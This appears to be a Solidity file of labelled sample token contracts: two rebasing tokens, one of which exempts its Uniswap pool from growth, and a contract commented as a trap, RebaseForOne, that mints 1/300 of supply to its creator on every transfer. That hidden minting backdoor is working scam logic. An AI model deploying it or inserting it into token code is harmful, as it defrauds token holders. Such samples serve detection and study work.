// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base} from "../unseen/Base.sol";

/// All balances grow alike by 0.03% every quarter of an hour, with the next transfer.
abstract contract Elastic {
    string public constant name = "Elastic";
    string public constant symbol = "ELA";
    uint8 public constant decimals = 18;
    uint256 internal constant PARTS = 1e50;
    uint256 public totalSupply = 1_000_000_000 ether;
    uint256 internal perToken = PARTS / totalSupply;
    uint256 internal last = block.timestamp - 40 minutes;
    mapping(address => uint256) internal parts;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        parts[msg.sender] = PARTS;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return parts[account] / perToken;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _grow() internal {
        uint256 times = (block.timestamp - last) / 15 minutes;
        if (times == 0) return;
        last += times * 15 minutes;
        for (uint256 i = 0; i < times && i < 8; i++) totalSupply += (totalSupply * 3) / 10_000;
        perToken = PARTS / totalSupply;
    }

    function _move(address from, address to, uint256 value) internal virtual returns (bool) {
        if (_isDue(from)) _grow();
        parts[from] -= value * perToken;
        parts[to] += value * perToken;
        emit Transfer(from, to, value);
        return true;
    }

    function _isDue(address from) internal view virtual returns (bool);
}

contract RebaseAll is Elastic {
    function _isDue(address) internal pure override returns (bool) {
        return true;
    }
}

/// What the pool has does not grow, nor with purchases.
contract RebaseButPool is Elastic {
    address private immutable pair;
    uint256 private held;

    constructor() {
        address weth = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
        (address a, address b) = weth < address(this) ? (weth, address(this)) : (address(this), weth);
        bytes32 code = 0x96e8ac4277198ff8b6f785478aa9a39f403cb768dd02cbee326c3e7da348845f;
        bytes32 salt = keccak256(abi.encodePacked(a, b));
        bytes memory from = abi.encodePacked(hex"ff", 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f, salt, code);
        pair = address(uint160(uint256(keccak256(from))));
    }

    function balanceOf(address account) public view override returns (uint256) {
        return account == pair ? held : super.balanceOf(account);
    }

    function _isDue(address from) internal view override returns (bool) {
        return from != pair;
    }

    function _move(address from, address to, uint256 value) internal override returns (bool) {
        if (_isDue(from)) _grow();
        if (from == pair) held -= value;
        else parts[from] -= value * perToken;
        if (to == pair) held += value;
        else parts[to] += value * perToken;
        emit Transfer(from, to, value);
        return true;
    }
}

/// A trap that looks like it: who transfers makes tokens for the creator.
contract RebaseForOne is Base {
    address private immutable dev = msg.sender;

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (from != address(0) && from != pair) super._update(address(0), dev, totalSupply() / 300);
    }
}
